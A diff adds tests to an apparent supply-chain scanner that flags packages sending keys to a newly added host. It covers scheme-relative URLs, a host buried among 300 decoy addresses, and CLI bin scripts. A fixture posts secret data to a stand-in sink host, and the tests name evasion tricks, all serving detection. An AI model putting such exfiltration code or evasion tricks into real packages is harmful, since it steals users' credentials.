@@ -25,6 +25,27 @@ def test_a_key_that_is_sent_to_a_new_host_is_held() -> None:
     assert "index.js:2" == str(finding.locations[0])
 
 
+@pytest.mark.parametrize(
+    "after",
+    [
+        SENDS.replace("https://sink", "//sink"),
+        f"exports.pages = [{','.join(repr(f'https://page{n}.pratique.invalid/') for n in range(300))}]\n{SENDS}",
+    ],
+    ids=["by the scheme of the page", "behind a crowd of addresses"],
+)
+def test_another_spelling_or_a_crowd_hides_no_host(after: str) -> None:
+    found = of_rule(npm({"index.js": after}, {"index.js": CALM}), RULE)
+    assert ["sink.pratique.invalid"] == [finding.evidence for finding in found]
+
+
+def test_a_command_is_code_that_people_run() -> None:
+    def package(code: str) -> Files:
+        return {"package.json": package_json(bin={"sample": "cli.js"}), "cli.js": code}
+
+    (finding,) = of_rule(npm(package(SENDS), package(CALM)), RULE)
+    assert "cli.js:2" == str(finding.locations[0])
+
+
 def test_python_is_held_too_and_each_host_is_told_once() -> None:
     sends = "import requests\ndef keys(s):\n  requests.post('https://sink.pratique.invalid/', data=s)\n"
     found = of_rule(wheel({"a.py": sends, "b.py": sends}, {"a.py": "def keys(s): ...\n"}), RULE)
